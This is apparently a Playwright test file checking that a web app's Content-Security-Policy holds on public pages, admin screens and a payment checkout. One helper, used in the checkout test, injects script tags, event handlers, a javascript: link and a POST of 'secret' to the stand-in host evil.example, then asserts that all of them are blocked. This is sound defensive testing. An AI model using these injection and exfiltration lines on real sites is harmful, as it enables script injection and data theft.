import type { Page } from '@playwright/test'
import { admin } from './support/api.ts'
import { expect, test } from './support/test.ts'

/*
 * The Content-Security-Policy applies to every screen. Every browser test shows that no screen needs more than the policy
 * allows: a violation is a console error, which fails the test.
 */

interface Watched {
  /** The violations that the browser reported, such as 'script-src-elem inline'. */
  violations: string[]
  /** The policy of each document, in order. */
  policies: string[]
}

async function watchViolations(page: Page): Promise<Watched> {
  const watched: Watched = { violations: [], policies: [] }
  await page.exposeFunction('tellViolation', (text: string) => watched.violations.push(text))
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      const { tellViolation } = window as unknown as { tellViolation(text: string): void }
      tellViolation(`${effectiveDirective} ${blockedURI}`)
    })
  })
  page.on('response', async (answer) => {
    if (answer.request().resourceType() !== 'document') return
    // A frame with a blob: address inherits the policy of its page.
    if (answer.url().startsWith('blob:')) return
    watched.policies.push((await answer.headerValue('content-security-policy')) ?? 'none')
  })
  return watched
}

/** Expects a policy that allows only scripts of the same origin, and inline scripts by their hash. */
function expectStrict(policies: readonly string[]) {
  expect(policies.length).toBeGreaterThan(0)
  for (const policy of policies) {
    const directives = new Map(
      policy.split('; ').map((directive) => {
        const [name = '', ...sources] = directive.split(' ')
        return [name, sources] as const
      }),
    )
    const scripts = directives.get('script-src') ?? []
    expect(scripts).toContain("'self'")
    expect(scripts.filter((source) => !/^'(self|sha256-[\w+/=]+)'$/.test(source))).toEqual([])
    expect(directives.get('default-src')).toEqual(["'self'"])
    expect(directives.get('connect-src')).toEqual(["'self'"])
    expect(directives.get('object-src')).toEqual(["'none'"])
    expect(directives.get('base-uri')).toEqual(["'none'"])
    expect(directives.get('form-action')).toEqual(["'self'"])
    expect(directives.get('frame-ancestors')).toEqual(["'none'"])
  }
}

/** Injects code into a page in several ways, each of which would set a mark. @returns the marks that were set */
function injectScripts(page: Page): Promise<string[]> {
  return page.evaluate(async () => {
    const marks: string[] = []
    Object.assign(window, { leave: (mark: string) => marks.push(mark) })
    const put = (tag: string, attributes: Record<string, string>, text = '') => {
      const element = document.createElement(tag)
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
      element.textContent = text
      document.body.append(element)
      return element
    }
    put('script', {}, 'leave("an inline script")')
    put('script', { src: 'https://evil.example/x.js' })
    put('script', { src: 'data:text/javascript,leave("a script as data")' })
    put('button', { onclick: 'leave("a handler in the page")' }).click()
    put('a', { href: 'javascript:leave("a link that is a script")' }).click()
    put('object', { data: 'https://evil.example/x' })
    await fetch('https://evil.example/', { method: 'POST', body: 'secret' }).then(
      () => marks.push('a call to somewhere else'),
      () => {},
    )
    // Runs in a timer of the page, because the policy does not restrict the code of the test.
    await new Promise<void>((resolve) =>
      setTimeout(() => {
        try {
          new Function('leave("text run as code")')()
        } catch {}
        resolve()
      }),
    )
    // Deferred code has run once two frames are drawn.
    await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)))
    return marks
  })
}

test('every public page complies with the policy', async ({ page }) => {
  const watched = await watchViolations(page)
  const sitemap = await (await page.request.get('/sitemap.xml')).text()
  const pages = [...sitemap.matchAll(/<loc>[^<]*?\/\/[^/<]+([^<]*)<\/loc>/g)].map(([, at]) => at)
  expect(pages.length).toBeGreaterThan(5)
  for (const address of [...pages, '/auth/login', '/auth/signup']) {
    await page.goto(address || '/')
    await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible()
  }
  expect(watched.violations).toEqual([])
  expect(watched.policies.length).toBeGreaterThan(pages.length)
  expectStrict(watched.policies)
})

test('the screens of an admin comply with the policy', async ({ page, signIn }) => {
  const watched = await watchViolations(page)
  // The headless browser of the tests has no PDF viewer, but it checks the policy of PDF frames.
  await page.addInitScript(() =>
    Object.defineProperty(navigator, 'pdfViewerEnabled', { value: true }),
  )
  await signIn(admin)
  await page.goto('/dashboard')
  const menu = page.getByRole('navigation', { name: 'Main' })
  await expect(menu).toBeVisible()
  const screens = await menu
    .getByRole('link')
    .evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).pathname))
  expect(screens.length).toBeGreaterThan(5)
  for (const screen of new Set(screens)) {
    await page.goto(screen)
    await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible()
    if (screen === '/dashboard/kyc') {
      // The oldest are those of the demo, as PDF.
      await page.getByRole('button', { name: 'Open KYC document' }).first().click()
      await expect(page.getByTitle(/^KYC document .+\.pdf$/)).toBeVisible()
    }
  }
  expect(watched.violations).toEqual([])
  expectStrict(watched.policies)
})

test('injected code does not run while the checkout is open, and the payment completes', async ({
  page,
  api,
  signIn,
  allowConsole,
}) => {
  allowConsole(/Content Security Policy|violates the following/)
  const watched = await watchViolations(page)
  await signIn(await api.makeAgent())
  await page.goto('/dashboard')
  await page.getByRole('button', { name: 'Add money' }).first().click()
  const dialog = page.getByRole('dialog', { name: 'Add money' })
  await dialog.getByRole('textbox').first().fill('100')
  await dialog.getByRole('button', { name: /^Pay|^Add/ }).click()
  const sheet = page.getByRole('dialog', { name: 'Raahi', exact: true })
  await expect(sheet).toContainText('₹100.00')
  expect(watched.violations, 'the checkout needs nothing that is refused').toEqual([])
  expectStrict(watched.policies)

  expect(await injectScripts(page)).toEqual([])
  const refused = new Set(watched.violations.map((text) => text.split(' ')[0]))
  for (const directive of ['script-src-elem', 'script-src-attr', 'script-src', 'connect-src']) {
    expect(refused).toContain(directive)
  }

  await sheet.getByRole('button', { name: 'Visa succeeds' }).click()
  await sheet.getByRole('button', { name: /^Pay ₹/ }).click()
  await expect(sheet).toBeHidden()
  await expect(page.getByText('₹100 is in your wallet.')).toBeVisible()
})
